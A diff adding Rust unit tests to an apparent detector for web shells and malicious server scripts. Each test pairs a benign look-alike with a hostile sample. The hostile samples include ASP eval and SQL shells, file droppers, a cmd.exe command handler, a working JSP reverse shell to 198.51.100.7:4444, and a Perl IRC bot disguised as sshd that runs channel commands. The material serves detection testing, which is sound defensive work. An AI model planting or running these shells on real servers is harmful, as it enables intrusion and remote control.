@@ -339,3 +339,130 @@ fn assignment_inside_an_expression_is_evaluated() {
     let benign = b"<?php $label = ucfirst($t = 'hello') . $u = ' world'; echo $label;";
     assert_clean(&analyze(benign, Lang::Php));
 }
+
+#[test]
+fn mangled_eval_r_is_still_eval() {
+    let src = b"<%\r\nIf Request(\"k\") <> \"\" Then eval_r(Request(\"k\"))\r\n%>";
+    assert_detected(&analyze(src, Lang::Asp), "flow.code");
+    let benign = b"<%\r\nscore = eval_rank(Request(\"q\"))\r\nResponse.Write Server.HTMLEncode(score)\r\n%>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
+
+#[test]
+fn jscript_unsafe_mode_built_from_reused_locals_is_resolved() {
+    // `t` is reassigned by the decoder below: the value at the eval is the one just before it.
+    let src = b"<script runat=\"server\" language=\"JScript\">\n\
+        function go(c) { var t = \"un\"; var m = t + \"sa\" + \"fe\"; return eval(c, m); }\n\
+        function xs(s) { var o = \"\", t; for (var i = 0; i < s.length; i += 2) { t = \"0x\" + s.substr(i, 2); o += char(int(t) ^ 7); } return o; }\n\
+        </script>\n<% go(xs(\"6a6f\")); %>";
+    assert_detected(&analyze(src, Lang::Asp), "flow.code");
+    let benign = b"<script runat=\"server\" language=\"JScript\">\n\
+        function fmt(c) { var t = \"ut\"; var m = t + \"f-8\"; return encode(c, m); }\n\
+        </script>\n<% Response.Write(fmt(Request.QueryString(\"q\"))); %>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
+
+#[test]
+fn adodb_connection_and_sql_from_the_request_through_a_sub() {
+    let src = b"<%\r\nSub RunIt(u, p)\r\n  Set db = Server.CreateObject(\"ADODB.Connection\")\r\n\
+        db.Open \"Provider=SQLOLEDB;Data Source=.;User ID=\" & u & \";Password=\" & p\r\n\
+        db.Execute(Request.Form(\"stmt\"))\r\nEnd Sub\r\nCall RunIt(Request.Form(\"u\"), Request.Form(\"p\"))\r\n%>";
+    assert_detected(&analyze(src, Lang::Asp), "flow.sql-shell");
+    // A search page: fixed connection, request text only inside the query.
+    let benign = b"<%\r\nSub Find(term)\r\n  Set db = Server.CreateObject(\"ADODB.Connection\")\r\n\
+        db.Open \"Provider=SQLOLEDB;Data Source=.;Initial Catalog=shop\"\r\n\
+        Set rs = db.Execute(\"SELECT name FROM items WHERE name LIKE '%\" & Replace(term, \"'\", \"''\") & \"%'\")\r\n\
+        End Sub\r\nCall Find(Request.QueryString(\"q\"))\r\n%>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
+
+#[test]
+fn request_text_written_into_a_server_script_is_a_dropper() {
+    let constant = b"<%\r\nbody = Request.Form(\"b\")\r\nSet fs = CreateObject(\"Scripting.FileSystemObject\")\r\n\
+        Set out = fs.CreateTextFile(Server.MapPath(\"cache/view.asp\"), True)\r\nout.WriteLine body\r\nout.Close\r\n%>";
+    assert_detected(&analyze(constant, Lang::Asp), "flow.dropper");
+    let own = b"<%\r\nme = Request.ServerVariables(\"PATH_INFO\")\r\nmsg = Request.Form(\"m\")\r\n\
+        Set fs = CreateObject(\"Scripting.FileSystemObject\")\r\nSet f = fs.OpenTextFile(Server.MapPath(me), 8, True)\r\n\
+        f.Write \"<p>\" & msg & \"</p>\"\r\nf.Close\r\n%>";
+    assert_detected(&analyze(own, Lang::Asp), "flow.dropper");
+    // A guestbook appending to a text file, and a page that only reads its own path.
+    let benign = b"<%\r\nmsg = Server.HTMLEncode(Request.Form(\"m\"))\r\nme = Request.ServerVariables(\"SCRIPT_NAME\")\r\n\
+        Set fs = CreateObject(\"Scripting.FileSystemObject\")\r\nSet f = fs.OpenTextFile(Server.MapPath(\"guestbook.txt\"), 8, True)\r\n\
+        f.WriteLine msg\r\nf.Close\r\nResponse.Write \"<a href='\" & me & \"'>back</a>\"\r\n%>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
+
+#[test]
+fn aspx_textbox_names_a_fileinfo_that_is_written() {
+    let src = b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n\
+        void Save_Click(object s, EventArgs e) {\n  var target = new System.IO.FileInfo(PathBox.Text);\n\
+          using (var w = target.CreateText()) { w.Write(BodyBox.Text); }\n}\n</script>\n\
+        <form runat=\"server\"><asp:TextBox ID=\"PathBox\" runat=\"server\"/><asp:TextBox ID=\"BodyBox\" runat=\"server\" TextMode=\"MultiLine\"/>\n\
+        <asp:Button runat=\"server\" OnClick=\"Save_Click\" Text=\"Save\"/></form>";
+    assert_detected(&analyze(src, Lang::Aspx), "flow.file");
+    let benign = b"<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n\
+        void Save_Click(object s, EventArgs e) {\n  var log = new System.IO.FileInfo(Server.MapPath(\"~/App_Data/notes.txt\"));\n\
+          using (var w = log.AppendText()) { w.WriteLine(Server.HtmlEncode(NoteBox.Text)); }\n}\n</script>\n\
+        <form runat=\"server\"><asp:TextBox ID=\"NoteBox\" runat=\"server\"/><asp:Button runat=\"server\" OnClick=\"Save_Click\"/></form>";
+    assert_clean(&analyze(benign, Lang::Aspx));
+}
+
+#[test]
+fn vb_net_streamwriter_on_a_request_path() {
+    let src = b"<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n\
+        Dim w As New System.IO.StreamWriter(Request.Form(\"to\"), False)\n w.Write(Request.Form(\"data\"))\n w.Close()\nEnd Sub\n</script>";
+    assert_detected(&analyze(src, Lang::Aspx), "flow.file");
+    let benign = b"<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n\
+        Dim w As New System.IO.StreamWriter(Response.OutputStream)\n w.Write(Server.HtmlEncode(Request.Form(\"data\")))\n w.Flush()\nEnd Sub\n</script>";
+    assert_clean(&analyze(benign, Lang::Aspx));
+}
+
+#[test]
+fn bare_shell_piped_to_a_socket_is_a_reverse_shell() {
+    let src = b"<%@ page import=\"java.net.*,java.io.*\" %><%\n\
+        Socket s = new Socket(\"198.51.100.7\", 4444);\nProcess p = new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();\n\
+        final InputStream pi = p.getInputStream(); final OutputStream so = s.getOutputStream();\n\
+        new Thread() { public void run() { try { int c; while ((c = pi.read()) != -1) so.write(c); } catch (Exception e) {} } }.start();\n\
+        InputStream si = s.getInputStream(); OutputStream po = p.getOutputStream(); int c; while ((c = si.read()) != -1) { po.write(c); po.flush(); }\n%>";
+    assert_detected(&analyze(src, Lang::Jsp), "capability.reverse-shell");
+    // A health page: one fixed command, and a socket to the mail server elsewhere.
+    let benign = b"<%@ page import=\"java.net.*,java.io.*\" %><%\n\
+        Process p = Runtime.getRuntime().exec(\"uptime\");\nBufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\nout.println(r.readLine());\n\
+        Socket s = new Socket(\"localhost\", 25); s.getOutputStream().write(\"QUIT\\r\\n\".getBytes()); s.close();\n%>";
+    assert_clean(&analyze(benign, Lang::Jsp));
+}
+
+#[test]
+fn web_handler_directive_with_a_space_is_code_after_it() {
+    let src = b"<% @ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web; using System.Diagnostics;\n\
+        public class H : IHttpHandler {\n public bool IsReusable { get { return false; } }\n\
+         public void ProcessRequest(HttpContext c) {\n  var i = new ProcessStartInfo(\"cmd.exe\", \"/c \" + c.Request[\"x\"]);\n\
+          i.UseShellExecute = false; Process.Start(i);\n }\n}\n";
+    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
+    let benign = b"<% @ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\n\
+        public class H : IHttpHandler {\n public bool IsReusable { get { return true; } }\n\
+         public void ProcessRequest(HttpContext c) { c.Response.ContentType = \"text/plain\"; c.Response.Write(c.Server.HtmlEncode(c.Request[\"x\"])); }\n}\n";
+    assert_clean(&analyze(benign, Lang::Aspx));
+}
+
+#[test]
+fn perl_irc_bot_running_channel_commands_is_detected() {
+    let src = b"#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = '/usr/sbin/sshd';\n$SIG{'HUP'} = 'IGNORE';\n\
+        my $c = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667) or die;\n\
+        print $c \"NICK $nick\\r\\nUSER $nick 8 * :x\\r\\n\";\nprint $c \"JOIN #ops\\r\\n\";\n\
+        while (my $l = <$c>) {\n  if ($l =~ /PRIVMSG (\\S+) :!run (.*)/) { my @o = `$2`; print $c \"PRIVMSG $1 :$_\" for @o; }\n}\n";
+    assert_detected(&analyze(src, Lang::Perl), "capability.irc-bot");
+    // A build notifier: joins a channel and says one line, runs nothing.
+    let benign = b"#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667) or die;\n\
+        print $c \"NICK buildbot\\r\\nUSER buildbot 8 * :b\\r\\nJOIN #builds\\r\\n\";\nprint $c \"PRIVMSG #builds :build $ARGV[0] finished\\r\\n\";\nprint $c \"QUIT\\r\\n\";\n";
+    assert_clean(&analyze(benign, Lang::Perl));
+}
+
+#[test]
+fn eval_of_many_pieces_spelling_request_is_detected_even_when_cut_short() {
+    // The tail is a variable the evaluator cannot read; the assembled head already reads the request.
+    let src = b"<%\r\nExecute(\"e\"&\"v\"&\"a\"&\"l\"&\" \"&\"r\"&\"e\"&\"q\"&\"u\"&\"e\"&\"s\"&\"t\"&\"(\" & k & \")\")\r\n%>";
+    assert_detected(&analyze(src, Lang::Asp), "deobf.eval-decoded");
+    let benign = b"<%\r\nExecute(\"Sub \"&\"Show\"&\"Menu\"&\"(\"&\")\"&\": \"&\"Response.Write \" & label & \": End Sub\")\r\n%>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
